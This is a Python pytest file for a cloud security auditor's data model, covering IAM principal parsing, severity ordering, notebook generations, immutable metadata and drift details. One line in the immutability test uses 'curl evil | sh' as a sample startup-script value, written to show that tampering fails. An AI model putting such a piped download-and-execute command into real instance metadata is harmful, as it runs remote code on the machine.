from __future__ import annotations

import dataclasses

import pytest

from auditor.model import (
    ComputeInstance,
    DriftDetail,
    Finding,
    FindingKind,
    Generation,
    Location,
    NotebookInstance,
    Principal,
    PrincipalKind,
    ScopeKind,
    Severity,
    Unresolved,
)


@pytest.mark.parametrize(
    ("member", "kind", "human"),
    [
        ("user:a@example.com", PrincipalKind.USER, True),
        ("group:g@example.com", PrincipalKind.GROUP, True),
        ("domain:example.com", PrincipalKind.DOMAIN, True),
        ("allUsers", PrincipalKind.ALL_USERS, True),
        ("allAuthenticatedUsers", PrincipalKind.ALL_AUTHENTICATED_USERS, True),
        ("serviceAccount:sa@p.iam.gserviceaccount.com", PrincipalKind.SERVICE_ACCOUNT, False),
        ("principal://iam.googleapis.com/locations/global/workforcePools/p/subject/s", PrincipalKind.PRINCIPAL, False),
        (
            "principalSet://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/*",
            PrincipalKind.PRINCIPAL_SET,
            False,
        ),
        ("deleted:user:a@example.com?uid=123", PrincipalKind.DELETED, False),
        ("projectOwner:p", PrincipalKind.PROJECT_ROLE, False),
    ],
)
def test_principal_kinds(member: str, kind: PrincipalKind, human: bool) -> None:
    principal = Principal.parse(member)
    assert principal.kind is kind
    assert principal.human is human


def test_unresolved_member_is_kept_with_its_expression() -> None:
    principal = Principal.parse(Unresolved("var.member"))
    assert principal.kind is PrincipalKind.UNRESOLVED
    assert principal.member == "var.member"


def test_service_agents_are_recognised() -> None:
    assert Principal.parse("serviceAccount:service-123@gcp-sa-notebooks.iam.gserviceaccount.com").service_agent
    assert not Principal.parse("serviceAccount:nb@p.iam.gserviceaccount.com").service_agent


def test_severity_order_and_parse() -> None:
    assert Severity.CRITICAL.rank > Severity.HIGH.rank > Severity.MEDIUM.rank > Severity.LOW.rank
    assert Severity.parse("HIGH") is Severity.HIGH
    with pytest.raises(ValueError, match="unknown severity"):
        Severity.parse("urgent")


def test_finding_requires_a_location() -> None:
    with pytest.raises(ValueError, match="no location"):
        Finding("r", Severity.LOW, FindingKind.INTENT, "x", "m", Location(""))


def test_unresolved_reads_as_its_shape_or_origin_never_internals() -> None:
    assert str(Unresolved("var.project_id")) == "var.project_id"
    assert str(Unresolved("x", origin="google_service_account.a.email", shape="a@{var.p}.iam.gserviceaccount.com")) == (
        "a@{var.p}.iam.gserviceaccount.com"
    )


def test_severity_is_ordered() -> None:
    assert Severity.INFO < Severity.LOW < Severity.MEDIUM < Severity.HIGH < Severity.CRITICAL
    assert max([Severity.LOW, Severity.CRITICAL, Severity.MEDIUM]) is Severity.CRITICAL
    assert sorted([Severity.HIGH, Severity.INFO]) == [Severity.INFO, Severity.HIGH]
    assert Severity.HIGH >= Severity.HIGH and not Severity.LOW >= Severity.MEDIUM


def test_generation_is_an_enum_and_a_bad_one_is_refused() -> None:
    instance = NotebookInstance("nb", "p", "z", "v1", "a", Location("x"))
    assert instance.generation is Generation.V1 and instance.generation.scope_kind is ScopeKind.NOTEBOOK_INSTANCE
    assert Generation.V2.scope_kind is ScopeKind.WORKBENCH_INSTANCE and f"{Generation.V2}" == "v2"
    with pytest.raises(ValueError, match="v3"):
        NotebookInstance("nb", "p", "z", "v3", "a", Location("x"))  # type: ignore[arg-type]


def test_frozen_mappings_are_really_immutable() -> None:
    metadata = {"notebook-disable-root": "true"}
    instance = NotebookInstance("nb", "p", "z", "v2", "a", Location("x"), metadata=metadata, labels={"team": "ml"})
    metadata["notebook-disable-root"] = "false"  # the caller's dict is not the instance's
    assert instance.metadata["notebook-disable-root"] == "true"
    with pytest.raises(TypeError):
        instance.metadata["startup-script"] = "curl evil | sh"  # type: ignore[index]
    with pytest.raises(TypeError):
        instance.labels["team"] = "x"  # type: ignore[index]
    vm = ComputeInstance("vm", "p", "z", "a", Location("x"), metadata={"k": "v"})
    with pytest.raises(TypeError):
        vm.metadata["k"] = "w"  # type: ignore[index]


def test_drift_only_fields_live_in_one_optional_drift_detail() -> None:
    names = {f.name for f in dataclasses.fields(Finding)}
    assert not names & {"field", "declared", "live"} and "drift" in names
    detail = DriftDetail(declared="e2-standard-8", live="e2-standard-32", field="machine_type")
    assert (detail.declared, detail.live, detail.field) == ("e2-standard-8", "e2-standard-32", "machine_type")
    assert DriftDetail(declared="a", live="b").field is None  # a grant's condition names no field
